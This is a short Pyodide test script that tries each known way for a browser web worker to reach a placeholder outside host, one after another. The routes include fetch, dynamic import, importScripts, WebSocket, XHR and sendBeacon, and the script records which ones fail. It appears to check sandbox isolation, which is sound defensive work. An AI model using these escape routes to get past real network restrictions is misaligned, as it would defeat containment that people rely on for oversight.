"""Every way out of a worker that is known, one after the other."""

import js
from pyodide.code import run_js

ADDRESS = "http://outside.example"

ATTEMPTS = [
    "fetch('ADDRESS/fetch')",
    "fetch('ADDRESS/no-cors', { mode: 'no-cors' })",
    "import('ADDRESS/import.js')",
    "new WebSocket('ADDRESS/socket'.replace('http', 'ws'))",
    "new EventSource('ADDRESS/events')",
    "new Worker('ADDRESS/worker.js')",
    "importScripts('ADDRESS/scripts.js')",
    "(() => { const r = new XMLHttpRequest(); r.open('GET', 'ADDRESS/xhr', false); r.send(); })()",
    "navigator.sendBeacon('ADDRESS/beacon', 'x')",
]


try:
    js.fetch(f"{ADDRESS}/js-fetch")
except Exception as error:
    print("js.fetch ->", type(error).__name__)
for attempt in ATTEMPTS:
    try:
        run_js(attempt.replace("ADDRESS", ADDRESS))
    except Exception as error:
        print(attempt, "->", type(error).__name__)
print("tried all")
